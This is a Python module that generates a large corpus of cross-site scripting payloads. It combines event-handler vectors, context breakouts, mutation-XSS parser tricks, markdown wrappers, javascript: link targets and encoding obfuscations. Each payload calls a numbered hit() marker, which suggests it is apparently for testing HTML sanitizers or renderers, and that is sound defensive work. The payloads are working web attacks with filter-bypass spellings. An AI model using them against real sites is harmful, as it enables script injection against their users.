"""Hostile texts by the thousand, made by rule: what runs, where it breaks out of, what it hides in, how it is spelled.

Each calls `hit` with its own number, so that whatever runs says which one it was.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator

# What runs by itself in a document that takes it as it is; `{run}` is the call, free of quotes.
LIVE = [
    "<script>{run}</script>",
    "<img src=x: onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<math><mtext><img src=x: onerror={run}></mtext></math>",
    "<iframe onload={run}></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video src=x: onerror={run}></video>",
    "<audio src=x: onerror={run}></audio>",
    "<video><source src=x: onerror={run}></video>",
    "<input autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<select autofocus onfocus={run}></select>",
    "<b tabindex=1 autofocus onfocus={run}>x</b>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=x: onerror={run}>",
    "<object data=x: onerror={run}></object>",
    "<body onpageshow={run}>",
    "<template shadowrootmode=open><img src=x: onerror={run}></template>",
]
# What waits for somebody, or for another browser; seen by looking at the document.
LURKING = [
    "<a href=javascript:{run}>x</a>",
    "<a href='java&#10;script:{run}'>x</a>",
    "<a href=data:text/html,x onclick={run}>x</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<button formaction=javascript:{run} form=f>x</button>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a></svg>",
    "<math href=javascript:{run}>x</math>",
    "<p onmouseover={run} onclick={run} style=position:fixed;inset:0>x</p>",
    "<b id=x style=animation-name:x onanimationstart={run}>x</b>",
    "<button popovertarget=x onbeforetoggle={run}>x</button>",
    "<meta http-equiv=refresh content=99;url=javascript:{run}>",
    "<base href=javascript:/{run}/>",
    "<embed src=javascript:{run}>",
    "<svg><use href=data:image/svg+xml,x></use></svg>",
    "<marquee onstart={run}>x</marquee>",
    "<dialog open onclose={run} oncancel={run}>x</dialog>",
]
# What a value may stand in, and how it is left; the vector follows.
BREAKS = [
    "",
    '">',
    "'>",
    "`>",
    '"/><!--',
    "-->",
    "]]>",
    "?>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</template>",
    "</noscript>",
    "</xmp></plaintext>",
    "</bdi></b></div></article>",
    '\\"}</script>',
    "</svg></math>",
    "</select></option>",
    "\n\n",
    "<p title='",
]
# Trees that parsers build in one way and read back in another (mutations), and corners of HTML; `{it}` is what hides.
HIDES = [
    "{it}",
    "<svg><style>{it}</style></svg>",
    "<svg></p><style><a id='</style>{it}'>",
    "<math><mtext><table><mglyph><style><!--</style>{it}",
    "<form><math><mtext></form><form><mglyph><style></math>{it}",
    "<math><annotation-xml encoding=text/html>{it}</annotation-xml></math>",
    "<svg><foreignObject>{it}</foreignObject></svg>",
    "<svg><desc><table><svg>{it}",
    "<noscript><p title='</noscript>{it}'>",
    "<template>{it}</template>",
    "<select><template>{it}</template></select>",
    "<table><td>{it}<table>",
    "<xmp>{it}</xmp>",
    "<![CDATA[{it}]]>",
    "<!-->{it}-->",
    "<!--{it}--!>{it}",
    "<?xml {it}?>",
    "<title>{it}</title>",
    "<iframe>{it}</iframe>",
    "<spoiler onclick=x>{it}",
    "<a href='http://a.test/'>{it}</a>",
    "<" * 20 + "b>{it}",
]
# Markdown of every kind around it.
MARKDOWN = [
    "{it}",
    "> {it}",
    "- {it}\n  - {it}",
    "1. {it}",
    "# {it}",
    "**{it}** _{it}_ ~~{it}~~",
    "||{it}||",
    "`{it}`",
    "```{it}\n{it}\n```",
    "    {it}",
    "| {it} |\n|---|\n| {it} |",
    "[{it}](http://a.test)",
    "[x](http://a.test '{it}')",
    "![{it}](http://a.test/i.png '{it}')",
    "[x]: http://a.test '{it}'\n\n[x]",
    "<http://a.test/{it}>",
    "http://a.test/{it}",
    "www.a.test/{it} me@a.test{it}",
    "[![{it}](http://a.test)](http://a.test/{it})",
    "[{it}][{it}]\n\n[{it}]: http://a.test/{it}",
]
# Targets of links that no link may have.
TARGETS = [
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6a&#x61vascript:{run}",
    "java\tscript:{run}",
    "java&#10;script:{run}",
    "\x01javascript:{run}",
    "&#1;javascript:{run}",
    "javascript\u200b:{run}",
    "\uff4aavascript:{run}",
    "java\u017fcript:{run}",
    "%6aavascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD4",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "//a.test/{run}",
    'http://a.test/"onmouseover={run}//',
    "http://a.test/'onmouseover='{run}",
    "http://a.test\\@b.test/{run}",
    "blob:http://a.test/{run}",
    "javascript://%0a{run}",
]
LINKS = [
    "[x]({it})",
    "[x](<{it}>)",
    "![x]({it})",
    "<{it}>",
    "[x]: {it}\n\n[x]",
    "[![x]({it})]({it})",
    '<a href="{it}">x</a>',
]


SPELLINGS: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;"),
    lambda text: text.replace("<", "&#x3c;").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "&amp;lt;"),
    lambda text: text.replace("<", "\\<"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("on", "\x0con"),
    lambda text: text.replace(" on", "/on").replace(" src", "/src"),
    lambda text: text.replace(">", "\n>"),
    lambda text: text.replace(">", ""),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace("i", "\u0131").replace("s", "\u017f"),
    lambda text: text.replace("script", "scr<script>ipt"),
    lambda text: text.replace("=", "&equals;"),
    lambda text: "\u202e" + text,
    lambda text: text.replace("<", "<<"),
]


def _every() -> Iterator[str]:
    vectors = [*LIVE, *LURKING]
    for vector, before in itertools.product(vectors, BREAKS):
        yield before + vector
    for vector, hide in itertools.product(vectors, HIDES):
        yield hide.replace("{it}", vector)
    for vector, spell in itertools.product(vectors, SPELLINGS):
        yield spell(vector)
    for link, target in itertools.product(LINKS, TARGETS):
        yield link.replace("{it}", target)
    for around, vector in itertools.product(MARKDOWN, vectors):
        yield around.replace("{it}", vector)
    for around, hide, vector in itertools.product(MARKDOWN, HIDES, LIVE):
        yield around.replace("{it}", hide.replace("{it}", vector))
    for before, hide, spell in itertools.product(BREAKS, HIDES, SPELLINGS):
        yield before + spell(hide.replace("{it}", LIVE[1]))


def corpus(*, every: int = 1) -> list[str]:
    """All of them, or one of so many; the same in each run. The number in `hit(…)` is the place in this list."""
    found = list(dict.fromkeys(itertools.islice(_every(), 0, None, every)))
    return [payload.replace("{run}", f"hit({number})") for number, payload in enumerate(found)]


def alone() -> list[str]:
    """Each vector by itself, as it would run in a page that takes it as it is."""
    return [vector.replace("{run}", f"hit({number})") for number, vector in enumerate([*LIVE, *LURKING])]
